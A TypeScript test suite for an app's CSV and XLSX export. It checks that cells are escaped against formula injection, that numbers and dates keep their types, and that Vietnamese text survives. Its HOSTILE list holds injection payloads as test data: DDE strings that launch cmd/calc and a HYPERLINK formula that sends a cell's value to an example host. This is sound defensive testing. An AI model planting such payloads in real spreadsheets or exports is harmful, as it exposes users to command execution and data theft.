/** Files that leave the office: hostile texts stay texts, numbers are numbers, days are days, Vietnamese letters arrive whole. */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import { looksLikeFormula } from '#domain/rules/formula.ts';
import { toCsv } from '#domain/sheet/csv.ts';
import { excelSheet } from '#domain/sheet/excelRows.ts';
import { plainHeadings, type Sheet, type SheetCell, sheetName } from '#domain/sheet/sheet.ts';
import { readSheets } from '#scripts/import/read/readSheets.ts';
import { openArchive } from '#scripts/import/read/workbook/archive.ts';
import { times } from '#tests/support/cases.ts';

const HOSTILE = [
  '=1+1',
  '+84912345678',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0001=1+1',
  '"=1+1',
  "'=1+1",
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("http://example.org/?"&A1;"bấm")',
  '\tcmd',
];
const HARMLESS = ['Mật ong rừng', 'Chè 1+1=2', 'a@b.vn', '0912345678', '50 %', '(+84) 912', 'x;y "z"', 'hai\ndòng'];

const sheetOf = (rows: SheetCell[][]): Sheet => ({ name: 'Thử', headings: plainHeadings(['Một', 'Hai']), rows });

/** What a program that knows nothing of us reads: the rows below the heading. */
function parsed(csv: string, delimiter = ';'): string[][] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, newline: '\r\n' }).data.slice(1, -1);
}

async function xlsxOf(sheet: Sheet): Promise<Buffer> {
  return writeExcelFile([excelSheet(sheet)]).toBuffer();
}

async function cellsOf(sheet: Sheet) {
  const result = await readSheets(new Uint8Array(await xlsxOf(sheet)));
  if (!result.ok) throw new Error(result.why);
  return result.file.sheets[0]?.rows.slice(1).map(({ cells }) => cells) ?? [];
}

describe('a hostile text', () => {
  it.each(HOSTILE)('%j is text in CSV, whatever separator the program takes', (text) => {
    expect(looksLikeFormula(text)).toBe(true);
    const csv = toCsv(sheetOf([['tên', text]]));
    expect(parsed(csv)).toEqual([['tên', `'${text}`]]);
    for (const delimiter of [',', '\t'])
      for (const cell of parsed(csv, delimiter).flat()) expect(cell.startsWith('=')).toBe(false);
  });

  it.each(HARMLESS)('%j, which is none, stays as it is', (text) =>
    expect(parsed(toCsv(sheetOf([['tên', text]])))).toEqual([['tên', text]]),
  );

  it('is text in XLSX: no cell holds a formula', async () => {
    const sheet = sheetOf([...HOSTILE, ...HARMLESS].map((text) => ['tên', text]));
    const parts = await openArchive(await xlsxOf(sheet));
    const tags = new Set<string>();
    await parts.read('xl/worksheets/sheet1.xml', { open: (name) => tags.add(name) });
    expect(tags).toContain('c');
    expect(tags).not.toContain('f');
  });

  it('never begins like a formula, whatever it is', () =>
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom(...'=+-@＝＋－＠\t\r'), (rest, sign) => {
        const [[cell = ''] = []] = parsed(toCsv(sheetOf([[`${sign}${rest.replace(/[\r\n]/g, '')}`]])));
        expect(cell.startsWith("'")).toBe(true);
      }),
      times(2_000),
    ));
});

describe('what is no text', () => {
  const row: SheetCell[] = [1234.5, { day: '2026-06-30' }, { day: '2026-06' }, { day: '2026' }, { day: '' }, null, 0];

  it('is a number with a decimal comma and a day as people write it in CSV, behind the mark of UTF-8', () => {
    const csv = toCsv({ name: 'x', headings: plainHeadings(['Sản phẩm']), rows: [row] });
    expect(csv).toBe('\uFEFF"Sản phẩm"\r\n1234,5;30/06/2026;06/2026;2026;;;0\r\n');
  });

  it('is a real number and a real day in XLSX; a day known less exactly is a text', async () => {
    const [cells = []] = await cellsOf(sheetOf([row]));
    expect(cells.slice(0, 4)).toEqual([1234.5, { day: '2026-06-30' }, '06/2026', '2026']);
    expect(cells.at(-1)).toBe(0);
  });

  it('that no file can hold is left empty', () =>
    expect(parsed(toCsv(sheetOf([[Number.NaN, Number.POSITIVE_INFINITY]])))).toEqual([['', '']]));
});

describe('a workbook', () => {
  it('opens although a text holds what XML cannot, or is longer than a cell', async () => {
    const texts = ['a\u0000b\u0008c\uFFFEd\uD800e', 'x'.repeat(40_000), '<b>&amp;</b>'];
    const cells = await cellsOf(sheetOf(texts.map((text) => [text])));
    expect(cells).toEqual([['abcde'], ['x'.repeat(32_767)], ['<b>&amp;</b>']]);
  });

  it.each([
    ["'Xã/phường [2026]'", 'Xã phường  2026'],
    ['?'.repeat(3), 'Trang'],
    ['Tên rất dài của một trang tính trong sổ', 'Tên rất dài của một trang tính'],
  ])('names a sheet %j as Excel allows', (text, name) => expect(sheetName(text)).toBe(name));
});
